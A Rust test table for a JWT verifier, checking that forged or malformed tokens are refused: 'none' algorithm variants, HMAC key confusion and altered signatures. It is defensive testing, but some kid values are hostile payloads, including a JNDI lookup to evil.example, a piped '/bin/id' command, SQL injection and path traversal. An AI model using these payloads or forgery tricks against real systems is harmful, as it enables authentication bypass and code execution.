//! Keys and algorithms.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use mlgate::realm::Malformed;
use mlgate::realm::jwt::Refusal;
use serde_json::{Value, json};

use super::super::signing::{SHARED, keys, public_pem, public_set, sign, sign_hmac, sign_rsa};
use super::super::token::token;
use super::{Line, good, malformed, refused};

#[rustfmt::skip] // a table
pub(super) fn lines() -> Vec<Line> {
    let set = public_set().to_string();

    let public_key = public_set()["keys"][0].to_string();
    let modulus = URL_SAFE_NO_PAD.decode(public_set()["keys"][0]["n"].as_str().unwrap()).unwrap();
    fn hmac(secret: &[u8]) -> impl Fn(&[u8]) -> String { move |message| sign_hmac(secret, "HS256", message) }
    vec![
        refused("none", token().algorithm("none").bearer(), Refusal::Algorithm),
        refused("None", token().algorithm("None").bearer(), Refusal::Algorithm),
        refused("NONE", token().algorithm("NONE").bearer(), Refusal::Algorithm),
        refused("no algorithm", token().algorithm("").bearer(), Refusal::Algorithm),
        refused("algorithm in lower case", token().algorithm("rs256").bearer(), Refusal::Algorithm),
        refused("algorithm with a space", token().algorithm("RS256 ").bearer(), Refusal::Algorithm),
        refused("algorithm of a curve that is not allowed", token().algorithm("ES256K").bearer(), Refusal::Algorithm),
        refused("encryption", token().algorithm("RSA-OAEP").bearer(), Refusal::Algorithm),
        refused("algorithm as a number", token().header("alg", json!(256)).bearer(), Refusal::HeaderMember("alg")),
        refused("algorithm as a list", token().header("alg", json!(["RS256"])).bearer(), Refusal::HeaderMember("alg")),
        refused("none without a signature", token().algorithm("none").signed(|_| String::new()), Refusal::NotSigned),
        refused("signature stripped", token().signed(|_| String::new()), Refusal::NotSigned),
        refused("signature of another message", token().signed(|_| sign("RS256", b"x")), Refusal::Signature),
        refused("signature of another key", token().signed(|message| sign_rsa(&keys().other_rsa, "RS256", message)), Refusal::Signature),
        refused("public key as shared secret", token().algorithm("HS256").signed(hmac(public_key.as_bytes())), Refusal::Signature),
        refused("modulus as shared secret", token().algorithm("HS256").signed(hmac(&modulus)), Refusal::Signature),
        refused("empty shared secret", token().algorithm("HS256").signed(hmac(b"")), Refusal::Signature),
        refused("shared secret under an RSA algorithm", token().signed(hmac(SHARED)), Refusal::Signature),
        refused("PS256 signature as RS256", token().signed(|message| sign("PS256", message)), Refusal::Signature),
        refused("RS384 signature as RS256", token().signed(|message| sign("RS384", message)), Refusal::Signature),
        refused("ES384 signature as ES256", token().algorithm("ES256").signed(|message| sign("ES384", message)), Refusal::Signature),
        refused("signature of zeros", token().algorithm("ES256").signed(|_| URL_SAFE_NO_PAD.encode([0; 64])), Refusal::Signature),
        refused("Ed25519 signature of zeros", token().algorithm("EdDSA").signed(|_| URL_SAFE_NO_PAD.encode([0; 64])), Refusal::Signature),
        refused("kid of another key", token().header("kid", json!("p256")).bearer(), Refusal::Signature),
        refused("kid of a key for encryption", token().header("kid", json!("for encryption")).bearer(), Refusal::Signature),
        refused("kid as a path", token().algorithm("ES256").header("kid", json!("../../../../dev/null")).bearer(), Refusal::Signature),
        refused("kid as SQL", token().algorithm("ES256").header("kid", json!("' UNION SELECT 'x")).bearer(), Refusal::Signature),
        refused("empty kid", token().algorithm("ES256").header("kid", json!("")).bearer(), Refusal::Signature),
        refused("kid with NUL", token().algorithm("ES256").header("kid", json!("p256\0")).bearer(), Refusal::Signature),
        refused("kid as a number", token().header("kid", json!(1)).bearer(), Refusal::HeaderMember("kid")),
        refused("kid as null", token().header("kid", Value::Null).bearer(), Refusal::HeaderMember("kid")),
        refused("nOnE", token().algorithm("nOnE").bearer(), Refusal::Algorithm),
        refused("none with a space", token().algorithm("none ").bearer(), Refusal::Algorithm),
        refused("none behind a space", token().algorithm(" none").bearer(), Refusal::Algorithm),
        refused("none and NUL", token().algorithm("none\0").bearer(), Refusal::Algorithm),
        refused("none in wide letters", token().algorithm("\u{ff4e}\u{ff4f}\u{ff4e}\u{ff45}").bearer(), Refusal::Algorithm),
        refused("none by escapes", token().header_text(r#"{"alg":"\u006eone"}"#).bearer(), Refusal::Algorithm),
        refused("none and a kid", token().algorithm("none").header("kid", json!("rsa")).bearer(), Refusal::Algorithm),
        refused("no algorithm member", token().without_header("alg").bearer(), Refusal::Algorithm),
        refused("algorithm null", token().header("alg", Value::Null).bearer(), Refusal::HeaderMember("alg")),
        refused("algorithm as an object", token().header("alg", json!({ "RS256": true })).bearer(), Refusal::HeaderMember("alg")),
        refused("algorithm under another name", token().header_text(r#"{"ALG":"RS256"}"#).bearer(), Refusal::Algorithm),
        refused("algorithm by a look-alike letter", token().algorithm("R\u{0405}256").bearer(), Refusal::Algorithm),
        refused("algorithm of the past", token().algorithm("RS1").bearer(), Refusal::Algorithm),
        refused("direct encryption", token().algorithm("dir").bearer(), Refusal::Algorithm),
        refused("key set as shared secret", token().algorithm("HS256").signed(hmac(set.as_bytes())), Refusal::Signature),
        refused("kid as shared secret", token().algorithm("HS256").header("kid", json!("rsa")).signed(hmac(b"rsa")), Refusal::Signature),
        refused("public key as PEM as shared secret", token().algorithm("HS256").signed(hmac(public_pem().as_bytes())), Refusal::Signature),
        refused("modulus as a longer shared secret", token().algorithm("HS512").signed(|message| sign_hmac(&modulus, "HS512", message)), Refusal::Signature),
        refused("part of the shared secret", token().algorithm("HS256").signed(hmac(&SHARED[..32])), Refusal::Signature),
        refused("shared secret under a curve's algorithm", token().algorithm("ES256").signed(hmac(SHARED)), Refusal::Signature),
        refused("HS512 signature as HS256", token().algorithm("HS256").signed(|message| sign("HS512", message)), Refusal::Signature),
        refused("HS256 signature cut short", token().algorithm("HS256").signed(|message| cut(&sign("HS256", message), 16)), Refusal::Signature),
        refused("RS256 signature as PS256", token().algorithm("PS256").signed(|message| sign("RS256", message)), Refusal::Signature),
        refused("RSA signature as EdDSA", token().algorithm("EdDSA").signed(|message| sign("RS256", message)), Refusal::Signature),
        refused("RSA signature cut short", token().signed(|message| cut(&sign("RS256", message), 255)), Refusal::Signature),
        refused("RSA signature with a byte more", token().signed(|message| with_zero(&sign("RS256", message))), Refusal::Signature),
        refused("RSA signature of zeros", token().signed(|_| URL_SAFE_NO_PAD.encode([0; 256])), Refusal::Signature),
        refused("RSA signature of one", token().signed(|_| { let mut one = [0; 256]; one[255] = 1; URL_SAFE_NO_PAD.encode(one) }), Refusal::Signature),
        refused("signature of one byte", token().signed(|_| "AA".to_owned()), Refusal::Signature),
        refused("ES384 signature of zeros", token().algorithm("ES384").signed(|_| URL_SAFE_NO_PAD.encode([0; 96])), Refusal::Signature),
        refused("ES512 signature of zeros", token().algorithm("ES512").signed(|_| URL_SAFE_NO_PAD.encode([0; 132])), Refusal::Signature),
        refused("ES256 signature in DER", token().algorithm("ES256").signed(|message| der(&sign("ES256", message))), Refusal::Signature),
        refused("EdDSA signature with a second form", token().algorithm("EdDSA").signed(|message| beyond_order(&sign("EdDSA", message))), Refusal::Signature),
        refused("signature of the claims alone", token().signed(|message| sign("RS256", message.split(|byte| *byte == b'.').nth(1).unwrap())), Refusal::Signature),
        refused("kid of a key of another curve", token().algorithm("ES256").header("kid", json!("p384")).bearer(), Refusal::Signature),
        refused("kid of a curve that is not known", token().algorithm("ES256").header("kid", json!("odd")).bearer(), Refusal::Signature),
        refused("kid in another case", token().header("kid", json!("RSA")).bearer(), Refusal::Signature),
        refused("kid with a space", token().header("kid", json!("rsa ")).bearer(), Refusal::Signature),
        refused("kid as a wildcard", token().header("kid", json!("*")).bearer(), Refusal::Signature),
        refused("kid as a command", token().header("kid", json!("rsa|/bin/id")).bearer(), Refusal::Signature),
        refused("kid as a URL", token().header("kid", json!("https://evil.example/jwks.json")).bearer(), Refusal::Signature),
        refused("kid as an expression", token().header("kid", json!("${jndi:ldap://evil.example/x}")).bearer(), Refusal::Signature),
        refused("kid of ten thousand letters", token().header("kid", json!("k".repeat(10_000))).bearer(), Refusal::Signature),
        malformed("kid of a megabyte", token().header("kid", json!("k".repeat(1 << 20))).bearer(), Malformed::TooLong),
        refused("kid as an object", token().header("kid", json!({ "$ne": null })).bearer(), Refusal::HeaderMember("kid")),
        refused("kid as a list", token().header("kid", json!(["rsa"])).bearer(), Refusal::HeaderMember("kid")),
        good("the right kid", token().header("kid", json!("rsa")).bearer()),
        good("the right kid by an escape", token().header_text(r#"{"alg":"RS256","kid":"\u0072sa"}"#).bearer()),
    ]
}

fn bytes(signature: &str) -> Vec<u8> {
    URL_SAFE_NO_PAD.decode(signature).unwrap()
}

fn cut(signature: &str, length: usize) -> String {
    URL_SAFE_NO_PAD.encode(&bytes(signature)[..length])
}

fn with_zero(signature: &str) -> String {
    URL_SAFE_NO_PAD.encode([&[0], bytes(signature).as_slice()].concat())
}

/// Both numbers of a signature as ASN.1, as TLS has them and JWS has not.
fn der(signature: &str) -> String {
    let number = |bytes: &[u8]| [&[2, 33, 0], bytes].concat();
    let signature = bytes(signature);
    let both = [number(&signature[..32]), number(&signature[32..])].concat();
    URL_SAFE_NO_PAD.encode([&[0x30, u8::try_from(both.len()).unwrap()], both.as_slice()].concat())
}

/// The order of the group is added to the second number: the same equation, which RFC 8032 (5.1.7) refuses.
fn beyond_order(signature: &str) -> String {
    #[rustfmt::skip]
    const ORDER: [u8; 32] = [
        0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
        0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
    ];
    let mut signature = bytes(signature);
    let mut carry = 0;
    for (byte, more) in signature[32..].iter_mut().zip(ORDER) {
        let sum = u16::from(*byte) + u16::from(more) + carry;
        *byte = u8::try_from(sum & 0xff).unwrap();
        carry = sum >> 8;
    }
    URL_SAFE_NO_PAD.encode(signature)
}
